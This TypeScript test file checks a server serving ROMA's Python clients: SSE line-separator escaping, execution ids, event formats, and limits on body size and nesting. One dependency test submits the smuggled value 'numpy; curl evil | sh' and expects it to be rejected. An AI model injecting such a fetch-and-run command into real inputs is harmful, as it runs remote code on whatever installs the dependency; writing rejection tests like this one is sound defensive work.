/**
 * What ROMA's two clients and Python's HTTP stack need from the server, over real sockets: the
 * executor's `POST /generate` (replayed byte for byte as httpx sends it), SSE that Python line
 * readers do not cut, ROMA's id in every event, ROMA's StreamMessage format, request-size and
 * nesting limits answered as HTTP errors (never a reset or a 500), and ROMA's free-text
 * dependencies. No Python needed: the scripted generator and the local runner (real pytest).
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { RomaArtifactResultSchema } from '../../src/roma/index.js';
import { startRomaServer, type RunningServer } from './server.js';

const TESTS = 'from slug import slugify\n\n\ndef test_spaces():\n    assert slugify("Hello World") == "hello-world"\n\n\ndef test_punctuation():\n    assert slugify("Hello,   World!!") == "hello-world"\n';
const BUGGY = 'import re\n\n\ndef slugify(text):\n    return re.sub(r"[^a-z0-9]", "-", text.lower())\n';
// U+2028, U+2029 and U+0085 in generated code: they reach every event that carries file content.
const FIXED = 'import re\n\n# separators: \u2028 \u2029 \u0085\n\n\ndef slugify(text):\n    return re.sub(r"[^a-z0-9]+", "-", text.lower()).strip("-")\n';
const SCRIPT = [
  [
    { path: 'slug.py', content: BUGGY },
    { path: 'tests/test_slug.py', content: TESTS, kind: 'test' },
  ],
  [
    { path: 'slug.py', content: FIXED },
    { path: 'tests/test_slug.py', content: TESTS, kind: 'test' },
  ],
];
const MAX_BODY = 64 * 1024;
/** Python's `str.splitlines` boundaries: where httpx's `aiter_lines` and httpx-sse 0.4.0 cut. */
const PYTHON_LINE_BREAKS = /\r\n|[\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029]/;

interface RawClient {
  socket: Socket;
  write(chunk: string | Buffer): Promise<void>;
  received(): string;
  error(): NodeJS.ErrnoException | undefined;
  /** Resolves when the server closed the connection (or `timeoutMs` passed: then false). */
  closed(timeoutMs: number): Promise<boolean>;
}

/** A raw TCP client, to send exactly the bytes a Python client sends and see resets as they are. */
function rawClient(port: number): RawClient {
  const socket = connect(port, '127.0.0.1');
  let received = '';
  let failure: NodeJS.ErrnoException | undefined;
  let isClosed = false;
  socket.on('data', (data: Buffer) => {
    if (received.length < 1_000_000) received += data.toString('utf8');
  });
  socket.on('error', (error) => {
    failure ??= error;
  });
  const closing = new Promise<void>((resolve) => socket.once('close', () => {
    isClosed = true;
    resolve();
  }));
  return {
    socket,
    write: (chunk) => new Promise((resolve, reject) => socket.write(chunk, (error) => (error ? reject(error) : resolve()))),
    received: () => received,
    error: () => failure,
    closed: async (timeoutMs) => {
      let timer: NodeJS.Timeout | undefined;
      await Promise.race([closing, new Promise<void>((resolve) => (timer = setTimeout(resolve, timeoutMs)))]);
      clearTimeout(timer);
      return isClosed;
    },
  };
}

const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** The raw text of an SSE response until the stream ends (bounded). */
async function sseText(url: string): Promise<string> {
  const response = await fetch(url, { signal: AbortSignal.timeout(60_000) });
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toMatch(/^text\/event-stream/);
  return response.text();
}

/** SSE `data` lines as a Python reader splitting on `str.splitlines` boundaries sees them. */
function pythonDataLines(text: string): string[] {
  return text.split(PYTHON_LINE_BREAKS).filter((line) => line.startsWith('data:')).map((line) => line.slice(5).trimStart());
}

async function postJson(server: RunningServer, path: string, body: unknown): Promise<{ status: number; json: Record<string, unknown> }> {
  const response = await fetch(`${server.url}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: typeof body === 'string' ? body : JSON.stringify(body),
    signal: AbortSignal.timeout(120_000),
  });
  return { status: response.status, json: (await response.json()) as Record<string, unknown> };
}

describe('ROMA clients against the server', () => {
  let directory: string;
  let server: RunningServer;
  let tight: RunningServer;

  beforeAll(async () => {
    // Each wait below is bounded by its own timeout; these bound the tests on a loaded machine.
    directory = mkdtempSync(join(tmpdir(), 'ptc-roma-clients-'));
    writeFileSync(join(directory, 'script.json'), JSON.stringify(SCRIPT));
    const quiet = () => {};
    server = await startRomaServer({ env: { PTC_SCRIPT: join(directory, 'script.json') }, port: 0, app: { eventsWaitMs: 10_000, maxBodyBytes: MAX_BODY }, onWarning: quiet });
    // A short drain, to see that a client that never stops sending is cut off in the end.
    tight = await startRomaServer({ env: { PTC_SCRIPT: join(directory, 'script.json') }, port: 0, app: { maxBodyBytes: MAX_BODY, drainTimeoutMs: 300 }, onWarning: quiet });
  });

  afterAll(async () => {
    await Promise.all([server?.close(), tight?.close()]);
    rmSync(directory, { recursive: true, force: true });
  });

  describe('POST /generate (roma_dspy.integrations.ptc_client.PTCClient, used by PTCExecutor)', () => {
    // httpx 0.27 encodes `json=` with json.dumps defaults (", " and ": ", ASCII escapes), 0.28
    // compactly and in UTF-8; both, with httpx's default headers in httpx's order.
    const goal = 'Write a slugify function — “ASCII” only';
    const payload = { task_description: goal, requirements: [], language: 'python' };
    const bodies = {
      'httpx 0.27': JSON.stringify(payload).replace(/","|":"|":\[|\],"/g, (match) => match.replace(',', ', ').replace(':', ': ')).replace(/[^\x00-\x7f]/g, (character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`),
      'httpx 0.28': JSON.stringify(payload),
    };

    test.each(Object.entries(bodies))('the exact request ROMA’s executor sends (%s) is answered as it expects', async (_version, body) => {
      expect(JSON.parse(body)).toEqual(payload);
      const bytes = Buffer.from(body, 'utf8');
      const client = rawClient(server.port);
      await client.write(
        `POST /generate HTTP/1.1\r\nHost: 127.0.0.1:${server.port}\r\nAccept: */*\r\nAccept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\nUser-Agent: python-httpx/0.27.2\r\nContent-Length: ${bytes.length}\r\nContent-Type: application/json\r\n\r\n`,
      );
      await client.write(bytes);
      // Keep-alive: the answer is complete once its Content-Length worth of body arrived.
      const deadline = Date.now() + 120_000;
      let head = '';
      let rest = '';
      while (Date.now() < deadline) {
        const text = client.received();
        const end = text.indexOf('\r\n\r\n');
        if (end !== -1) {
          head = text.slice(0, end);
          rest = text.slice(end + 4);
          const length = Number(/content-length: (\d+)/i.exec(head)?.[1]);
          if (Buffer.byteLength(rest) >= length) break;
        }
        await pause(20);
      }
      client.socket.destroy();
      expect(head).toMatch(/^HTTP\/1\.1 200 /);
      expect(head).toMatch(/content-type: application\/json/i);
      const result = JSON.parse(rest) as Record<string, unknown>;
      // What PTCExecutor reads: result['code'], ['language'], ['provider'], ['cost_usd']:.6f, ['tokens_used'].
      expect(typeof result.code).toBe('string');
      expect(result.language).toBe('python');
      expect(result.provider).toBe('scripted');
      expect(Number.isInteger(result.tokens_used)).toBe(true);
      expect(typeof result.cost_usd).toBe('number');
      expect((result.cost_usd as number).toFixed(6)).toBe('0.000000');
      expect(result.code).toBe(`# File: slug.py\n${FIXED}\n# File: tests/test_slug.py\n${TESTS}`);
      expect(result).toMatchObject({ status: 'SUCCESS', tests_passed: 2, tests_failed: 0 });
    }, 150_000);

    test('an invalid body is a 422 with FastAPI-style detail; GET /health has what the executor’s docs expect', async () => {
      const invalid = await postJson(server, '/generate', { requirements: 'x' });
      expect(invalid.status).toBe(422);
      expect(invalid.json.detail).toEqual([
        { type: 'missing', loc: ['body', 'task_description'], msg: 'Field required' },
        { type: 'list_type', loc: ['body', 'requirements'], msg: 'Input should be a valid list' },
      ]);
      const health = (await (await fetch(`${server.url}/health`)).json()) as Record<string, unknown>;
      expect(health).toMatchObject({ status: 'healthy', llm_provider: 'scripted' });
    });
  });

  describe('event streams', () => {
    // Not printable ASCII ≤ 200: the agent runs under its own id, every payload still carries ROMA's.
    const romaId = `задача\u2028${'x'.repeat(200)}`;
    const plan = { execution_id: romaId, scaffolding: { task_description: 'A slugify(text) function in slug.py \u2029' }, timeout_seconds: 120 };
    let ptcText: string;
    let romaText: string;
    let answer: { status: number; json: Record<string, unknown> };

    beforeAll(async () => {
      const base = `${server.url}/executions/${encodeURIComponent(romaId)}/events`;
      const streams = Promise.all([sseText(base), sseText(`${base}?format=roma`)]);
      answer = await postJson(server, '/execute', plan);
      [ptcText, romaText] = await streams;
    }, 150_000);

    test('every data line survives a Python line reader: U+2028, U+2029 and U+0085 are escaped', () => {
      expect(answer.status).toBe(200);
      expect(answer.json.artifacts).toEqual(expect.arrayContaining([expect.objectContaining({ content: FIXED })]));
      for (const text of [ptcText, romaText]) {
        const lines = pythonDataLines(text);
        expect(lines.length).toBeGreaterThan(5);
        for (const line of lines) expect(() => JSON.parse(line)).not.toThrow();
      }
      // The last event is the whole result, intact.
      const last = JSON.parse(pythonDataLines(ptcText).at(-1)!);
      expect(last).toEqual(answer.json);
    });

    test('ROMA’s execution id is in every payload, whatever id the agent used', () => {
      expect(answer.json.execution_id).toBe(romaId);
      const metadata = answer.json.metadata as { ptc_execution_id: string };
      expect(metadata.ptc_execution_id).not.toBe(romaId);
      for (const line of pythonDataLines(ptcText)) {
        const payload = JSON.parse(line) as Record<string, unknown>;
        expect(payload.executionId ?? payload.execution_id).toBe(romaId);
      }
      for (const line of pythonDataLines(romaText)) expect(JSON.parse(line).execution_id).toBe(romaId);
    });

    test('?format=roma speaks ROMA’s StreamMessage: connected first, execution_completed last with the result, progress 0–1', () => {
      expect(romaText).not.toMatch(/^event:/m);
      const messages = pythonDataLines(romaText).map((line) => JSON.parse(line) as Record<string, unknown>);
      for (const message of messages) {
        expect(Object.keys(message)).toEqual(['id', 'event_type', 'timestamp', 'execution_id', 'stage', 'progress', 'message', 'data', 'error']);
        expect(message.timestamp).toMatch(/\+00:00$/);
        if (message.progress !== null) expect(message.progress).toBeGreaterThanOrEqual(0);
        if (message.progress !== null) expect(message.progress).toBeLessThanOrEqual(1);
      }
      const types = messages.map((message) => message.event_type);
      expect(types[0]).toBe('connected');
      expect(types.filter((type) => type === 'test_failed' || type === 'test_passed')).toEqual(['test_failed', 'test_passed']);
      expect(types.at(-1)).toBe('execution_completed');
      expect(RomaArtifactResultSchema.parse(messages.at(-1)!.data)).toEqual(answer.json);
    });

    test('?format=roma for an id that never starts is ROMA’s "Execution not found"; an unknown format is a 422', async () => {
      const quick = await startRomaServer({ env: { PTC_SCRIPT: join(directory, 'script.json') }, port: 0, app: { eventsWaitMs: 50 }, onWarning: () => {} });
      try {
        const lines = pythonDataLines(await sseText(`${quick.url}/executions/nope/events?format=roma`));
        expect(lines.map((line) => JSON.parse(line))).toMatchObject([{ event_type: 'error', execution_id: 'nope', error: 'Execution not found' }]);
        expect((await fetch(`${quick.url}/executions/nope/events?format=xml`)).status).toBe(422);
      } finally {
        await quick.close();
      }
    });
  });

  describe('limits', () => {
    test('an oversized Content-Length is refused before the body is read', async () => {
      const client = rawClient(server.port);
      await client.write(`POST /execute HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${100 * MAX_BODY}\r\n\r\n{"execution_id":`);
      // Nothing more is sent: the answer can only come from the header.
      const deadline = Date.now() + 20_000;
      while (!client.received().includes('\r\n\r\n') && Date.now() < deadline) await pause(10);
      expect(client.received()).toMatch(/^HTTP\/1\.1 413 /);
      client.socket.destroy();
    });

    test('a chunked body past the limit, from a client that keeps writing, gets a 413 and no connection reset', async () => {
      const client = rawClient(server.port);
      await client.write('POST /execute HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n');
      const chunk = Buffer.alloc(16 * 1024, 0x20);
      const frame = Buffer.concat([Buffer.from(`${chunk.length.toString(16)}\r\n`), chunk, Buffer.from('\r\n')]);
      // Like httpx: the whole body goes out before the response is read, here paced so that
      // sending goes on well after the server has refused it.
      for (let sent = 0; sent < 6 * MAX_BODY; sent += chunk.length) {
        await client.write(frame);
        await pause(50);
      }
      await client.write('0\r\n\r\n');
      expect(await client.closed(20_000)).toBe(true);
      expect(client.error()?.code).toBeUndefined();
      expect(client.received()).toMatch(/^HTTP\/1\.1 413 /);
      expect(client.received()).toContain(`{"detail":"Request body larger than ${MAX_BODY} bytes"}`);
    });

    test('an oversized Content-Length body sent whole, then read (as httpx does): a 413, no reset', async () => {
      const client = rawClient(server.port);
      const total = 3 * MAX_BODY;
      await client.write(`POST /generate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${total}\r\n\r\n`);
      const slice = Buffer.alloc(total / 24, 0x20);
      for (let index = 0; index < 24; index += 1) {
        await client.write(slice);
        await pause(50);
      }
      expect(await client.closed(20_000)).toBe(true);
      expect(client.error()?.code).toBeUndefined();
      expect(client.received()).toMatch(/^HTTP\/1\.1 413 /);
    });

    test('a client that never stops sending is cut off once the drain time is over (it already has its 413)', async () => {
      const client = rawClient(tight.port);
      await client.write('POST /execute HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n');
      const frame = Buffer.from(`${(8192).toString(16)}\r\n${' '.repeat(8192)}\r\n`);
      let cutOff = false;
      const deadline = Date.now() + 20_000;
      while (!cutOff && Date.now() < deadline) {
        try {
          await client.write(frame);
        } catch {
          cutOff = true;
        }
        cutOff ||= client.socket.destroyed;
        await pause(10);
      }
      expect(cutOff).toBe(true);
      expect(client.received()).toMatch(/^HTTP\/1\.1 413 /);
    });

    test('a body within the limit still works after refusals (the server is not stuck)', async () => {
      const response = await postJson(server, '/execute', { execution_id: 'small', scaffolding: { task_description: 'x' }, enable_testing: false });
      expect(response.status).toBe(200);
    });

    test.each(['/execute', '/generate'])('JSON nested thousands of levels deep is a 422 on %s, not a 500', async (path) => {
      const deep = `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`;
      const body = path === '/execute' ? `{"execution_id":"deep","scaffolding":{"task_description":"x","architecture":${deep}}}` : `{"task_description":"x","requirements":[],"language":"python","x":${deep}}`;
      const big = await startRomaServer({ env: { PTC_SCRIPT: join(directory, 'script.json') }, port: 0, onWarning: () => {} });
      try {
        const response = await postJson(big, path, body);
        expect(response.status).toBe(422);
        expect(response.json.detail).toMatchObject([{ type: 'json_invalid', loc: ['body'], msg: 'JSON decode error: nested deeper than 64 levels' }]);
        // Ordinary nesting passes.
        const normal = await postJson(big, '/execute', { execution_id: 'nested', scaffolding: { task_description: 'x', architecture: { a: { b: { c: [1, { d: 2 }] } } } }, enable_testing: false });
        expect(normal.status).toBe(200);
      } finally {
        await big.close();
      }
    });
  });

  test('dependencies as ROMA writes them: normalised, descriptive ones left out with a warning, shell characters still a 422', async () => {
    const scaffolding = { task_description: 'Store thumbnails', dependencies: ['PostgreSQL database', 'Pillow (>=9)', 'a web framework'] };
    // Testing off: nothing is installed, the plan's acceptance is what is checked here.
    const accepted = await postJson(server, '/execute', { execution_id: 'deps-1', scaffolding, enable_testing: false });
    expect(accepted.status).toBe(200);
    expect(accepted.json.warnings).toEqual(
      expect.arrayContaining([expect.stringMatching(/^Dependency "PostgreSQL database" left out/), expect.stringMatching(/^Dependency "a web framework" left out/)]),
    );
    const refused = await postJson(server, '/execute', { execution_id: 'deps-2', scaffolding: { ...scaffolding, dependencies: ['click', 'numpy; curl evil | sh', '-e .'] } });
    expect(refused.status).toBe(422);
    expect((refused.json.detail as Array<{ loc: unknown[] }>).map((entry) => entry.loc)).toEqual([
      ['body', 'scaffolding', 'dependencies', 1],
      ['body', 'scaffolding', 'dependencies', 2],
    ]);
  });
});
